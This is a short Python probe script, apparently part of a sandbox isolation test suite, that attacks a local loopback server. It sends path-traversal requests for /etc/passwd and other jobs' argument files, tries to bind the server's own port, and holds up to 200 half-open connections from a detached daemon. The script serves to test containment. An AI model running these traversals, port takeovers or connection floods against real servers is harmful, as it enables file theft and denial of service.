"""Asks the loopback server for files of others, takes its port, and keeps its connections open."""

import os
import re
import socket

import kit

PATHS = (
    *("/../../in/arguments.json", "/..%2f..%2fin/arguments.json", "//build/in/arguments.json"),
    *("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/in/arguments.json", "/build/in/arguments.json"),
    *("//etc/passwd", "/headers/../../../etc/passwd", "/headers/%2e%2e/%2e%2e/etc/passwd"),
)
found = {
    (name, int(port))
    for name, value in os.environ.items()
    for port in re.findall(r"127\.0\.0\.1:([0-9]+)", value)
}
kit.note("servers", sorted(name for name, _ in found))
prefixes = {""}
for value in os.environ.values():
    prefixes.update(re.findall(r"127\.0\.0\.1:[0-9]+(/[a-z_./-]+)", value))


def ask(port: int, path: str) -> bytes:
    with socket.create_connection(("127.0.0.1", port), 1) as connection:
        connection.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
        answer = b""
        while len(answer) < 1 << 20:
            block = connection.recv(65536)
            if not block:
                return answer
            answer += block
    return answer


held = []
for _, port in found:
    for prefix in sorted(prefixes):
        for path in PATHS:
            try:
                answer = ask(port, prefix.rstrip("/") + path)
            except OSError as error:
                kit.note(prefix + path, kit.word_of(error))
                continue
            if b" 200 " in answer.split(b"\r\n")[0]:
                kit.reached(f"was given {prefix}{path}")
    taker = socket.socket()
    taker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        taker.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        taker.bind(("127.0.0.1", port))
        taker.listen()
        kit.reached("listens on the port of the server")
    except OSError as error:
        kit.note("bind", kit.word_of(error))
    for _attempt in range(200):
        try:
            connection = socket.create_connection(("127.0.0.1", port), 0.2)
            connection.sendall(b"GET /half")
            held.append(connection)
        except OSError:
            break
# A daemon keeps the connections: the server must not wait for their end.
if kit.detach():
    import time

    time.sleep(120)
    os._exit(0)
